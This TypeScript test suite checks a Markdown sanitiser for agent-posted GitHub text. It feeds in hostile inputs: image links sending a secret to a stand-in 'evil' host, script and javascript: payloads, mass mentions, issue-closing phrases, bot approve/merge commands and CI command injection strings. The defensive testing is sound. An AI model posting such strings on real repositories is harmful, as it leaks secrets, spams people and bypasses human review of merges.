/** What we post does nothing that is not ours (security.md D7, E1–E7, E12): read again as GitHub reads it. */
import * as fc from "fast-check";
import type { Nodes } from "mdast";
import { expect, test } from "vitest";
import type { Text } from "../../src/domain/text.ts";
import { BODY_MAX, toMarkdown, toTitle } from "../../src/markdown/outgoing.ts";
import { childrenOf, parseMarkdown } from "../../src/markdown/parse.ts";

const options = {
  allowedHosts: ["github.com", "127.0.0.1:4000"],
  secrets: ["s3cr3t_value_that_is_long"],
};

const agent = (text: string): string => toMarkdown([{ kind: "agent", text }], options);

/** What acts on GitHub in a Markdown text, by the rules of its HTML pipeline: code and links are left alone. */
function active(markdown: string): readonly string[] {
  const tree = parseMarkdown(markdown);
  if (tree === null) return ["unparsable"];
  const found: string[] = [];
  const visit = (node: Nodes): void => {
    if (node.type === "text") {
      found.push(...(node.value.match(/(?<![\w`])[@＠]\w[\w/-]*/gu) ?? []));
      found.push(...(node.value.match(/(?:[\w.-]+\/[\w.-]+)?#\d+|GH-\d+/gu) ?? []));
    }
    if (node.type === "image" || node.type === "imageReference") found.push("image");
    if (node.type === "html") found.push(node.value);
    if (node.type === "definition") found.push(node.url);
    if (node.type === "link" && !options.allowedHosts.includes(hostOf(node.url)))
      found.push(node.url);
    if (node.type === "heading" && node.depth < 4) found.push("large heading");
    if (node.type === "listItem" && typeof node.checked === "boolean") found.push("task box");
    for (const child of childrenOf(node)) visit(child);
  };
  visit(tree);
  // Bots read the raw text, code or not.
  found.push(...(markdown.match(/^[ \t]*(?:\/[a-z]+|bors |@dependabot|@claude)/gmu) ?? []));
  if (/<!--[ \t]*orcha/u.test(markdown)) found.push("marker");
  return found;
}

const hostOf = (url: string): string => (URL.canParse(url) ? new URL(url).host : url);

const HOSTILE = [
  // E1 mentions
  "@org/security @everyone @torvalds",
  "&commat;org/x &#64;x",
  "＠x ﹫x",
  "@<!-- -->x, @<b></b>x, @\u200Bx, @​x",
  '**@x** _@y_ ~~@z~~ (@a) "@b" [@c](https://github.com/x)',
  "a\\@b \\@c mail@example.com",
  "| @x | #1 |\n|---|---|\n| @y | fixes #2 |",
  "# @x\n\n> @y\n\n- @z",
  // E2 closing
  "fixes #1, closes other/repo#2, resolves GH-3",
  "fixes\n#1 and closes: **#2**",
  "closes https://github.com/o/r/issues/1",
  // E3 remote things
  "![x](https://evil/?q=SECRET)",
  '<img src="https://evil/x">',
  "[a](//evil) [b](javascript:alert(1)) [c](https://github.com@evil/)",
  "![x][r]\n\n[r]: https://evil/x",
  "https://evil/x?d=1 www.evil.com <https://evil> ftp://evil/x",
  "[a]: https://evil\n\n[a] [b][a]",
  "<style>x</style><script>y</script>",
  // E4 other bots
  "@dependabot merge",
  "/lgtm\n/approve abc\n\n- /merge\n\ntext\n/hold",
  "bors r+\n\nbors try",
  "```\n/approve\nbors r+\n```",
  "a `x\n/approve`",
  "**x**\n/approve",
  // E5 ours
  "<!-- orcha:v1 id=1 -->",
  "`<!-- orcha:v1 0123 4567 -->`",
  "    <!-- orcha:v1 0123 4567 -->",
  "x\n<!-- orcha:v1 0123 4567",
  "# ✅ approved\n\n## Status\n\n- [x] done",
  // E6 frames
  "````\nunbalanced",
  "</details></details>\n</summary>",
  "> ```\n> x",
  "[^1]\n\n[^1]: @x fixes #1",
  // Found by the property below: the parser fails, code spans touch, a pattern spans markup.
  "*\n[ ] @x",
  "www.e.vil`https://evil/",
  "www.e.vilorcha:<!--@x",
  "#1www.e.vil",
];

test.for(HOSTILE)("nothing in it acts: %j", (text) => {
  expect(active(agent(text))).toEqual([]);
  expect(active(toMarkdown([{ kind: "quote", text }], options))).toEqual([]);
  expect(active(toMarkdown([{ kind: "code-block", text }], options))).toEqual([]);
});

test.for(HOSTILE)("our own words cannot be made to act by what is put into them: %j", (text) => {
  const inlines = [
    { kind: "text", text },
    { kind: "strong", text },
    { kind: "code", text },
  ] as const;
  const blocks: Text = [
    { kind: "paragraph", inlines },
    { kind: "heading", depth: 3, inlines: [{ kind: "text", text: "ours" }] },
    { kind: "list", ordered: true, items: [inlines] },
    { kind: "table", header: [inlines], rows: [[inlines]] },
  ];
  expect(active(toMarkdown(blocks, options)).filter((what) => what !== "large heading")).toEqual(
    [],
  );
});

test("it stays readable", () => {
  const text = [
    "I changed `limit.ts` and **tested** it, see [the docs](https://github.com/acme/docs).",
    "",
    "1. first",
    "2. second, snake_case and 2 * 3 < 7",
    "",
    "```ts",
    "const a = 1; // @x #1",
    "```",
  ].join("\n");
  expect(agent(text)).toMatchInlineSnapshot(`
    "I changed \`limit.ts\` and **tested** it, see [the docs](https://github.com/acme/docs).

    1. first
    2. second, snake_case and 2 \\* 3 < 7

    \`\`\`ts
    const a = 1; // @x #1
    \`\`\`
    "
  `);
});

test("only a mention notifies and only a reference refers; a frame stands around the rest", () => {
  const text: Text = [
    {
      kind: "paragraph",
      inlines: [
        { kind: "mention", login: "bob" },
        { kind: "text", text: " about " },
        { kind: "reference", number: 3 },
        { kind: "text", text: ", not @eve or #4" },
      ],
    },
    {
      kind: "details",
      summary: [{ kind: "text", text: "What <b>they</b> say, @x" }],
      blocks: [{ kind: "agent", text: "hello\n\n````\nunbalanced </details>" }],
    },
    {
      kind: "paragraph",
      inlines: [
        { kind: "mention", login: "x y" },
        { kind: "link", text: "a", url: "javascript:x" },
      ],
    },
  ];
  expect(toMarkdown(text, options)).toMatchInlineSnapshot(`
    "@bob about #3, not \`@eve\` or \`#4\`

    <details>
    <summary>What &lt;b&gt;they&lt;/b&gt; say, <code>@x</code></summary>

    hello

    \`\`\`
    unbalanced </details>
    \`\`\`

    </details>

    \`x y\` a
    "
  `);
});

test.for([
  "s3cr3t_value_that_is_long",
  "s3cr3t\\_value\\_that\\_is\\_long",
  "`s3cr3t_value_that_is_long`",
  "[x](https://github.com/?q=s3cr3t_value_that_is_long)",
  "![s3cr3t_value_that_is_long](x)",
  "**s3cr3t_value_that**_is_long",
  "s3cr3t&#95;value&#95;that&#95;is&#95;long",
  "s3cr3t_val\u200Bue_that_is_long",
  Buffer.from("xs3cr3t_value_that_is_long").toString("base64"),
])("E7: a secret is not posted, however it is marked up: %j", (text) => {
  const posted = agent(`before ${text} after`).replaceAll("\\", "");
  expect(posted).not.toContain("s3cr3t_value_tha");
  expect(posted).toContain("(redacted)");
});

test("what is too long is cut with a count, and the frame stays whole", () => {
  const long = "```\n" + "word ".repeat(20_000);
  const text: Text = [
    {
      kind: "details",
      summary: [{ kind: "text", text: "s" }],
      blocks: [{ kind: "agent", text: long }],
    },
    { kind: "agent", text: "_".repeat(70_000) },
    { kind: "paragraph", inlines: [{ kind: "text", text: "The end." }] },
  ];
  const markdown = toMarkdown(text, options);
  expect(markdown.length).toBeLessThanOrEqual(BODY_MAX);
  expect(markdown).toMatch(/\(\d+ characters left out\)\n\n<\/details>/u);
  expect(markdown.trimEnd()).toMatch(/The end\.$/u);
  const items = Array.from({ length: 3_000 }, () => [
    { kind: "text", text: "x".repeat(60) } as const,
  ]);
  const list = toMarkdown([{ kind: "list", ordered: false, items }], options);
  expect(list.length).toBeLessThanOrEqual(BODY_MAX);
  expect(list).toMatch(/characters left out\)\n$/u);
});

const token = fc.constantFrom(
  "@x",
  "@",
  "x",
  "#1",
  "#",
  "fixes ",
  "o/r",
  "<!--",
  "-->",
  "orcha:",
  "<b>",
  "</details>",
  "```",
  "`",
  "\n",
  "\n\n",
  "/lgtm",
  "- ",
  "> ",
  "    ",
  "![",
  "[",
  "](",
  ")",
  "https://evil/",
  "www.e.vil",
  "*",
  "_",
  "~~",
  "|",
  "|-|",
  "\\",
  "&commat;",
  "[^1]",
  "[^1]: ",
  "[r]: ",
  " ",
  "bors r+",
  "[ ] ",
  "GH-",
  "1",
  "# ",
  "\u200B",
  "$",
);

test("property: whatever an agent writes, nothing acts, in every place we put it", () => {
  fc.assert(
    fc.property(fc.array(token, { maxLength: 25 }), (parts) => {
      const text = parts.join("");
      expect(active(agent(text))).toEqual([]);
      const inlines = [{ kind: "text", text }] as const;
      const row: Text = [
        { kind: "table", header: [inlines], rows: [[inlines]] },
        { kind: "quote", text },
      ];
      expect(active(toMarkdown(row, options))).toEqual([]);
    }),
    { numRuns: 1_500 },
  );
});

test.for([
  ["Add limits\nfixes #1 [skip ci]", "Add limits fixes no. 1"],
  ["@alice ﹫bob see o/r#2", "alice bob see o/r no. 2"],
  ["::set-output name=x::y", "set-output name=x::y"],
  ["##vso[task.x]y", "task.x]y"],
  ["a\u202Eb\u0000c", "a b c"],
  [" ", "Changes"],
  ["x".repeat(400), "x".repeat(250)],
] as const)("E12: a title is one harmless line: %j", ([title, expected]) => {
  expect(toTitle(title, options)).toBe(expected);
});
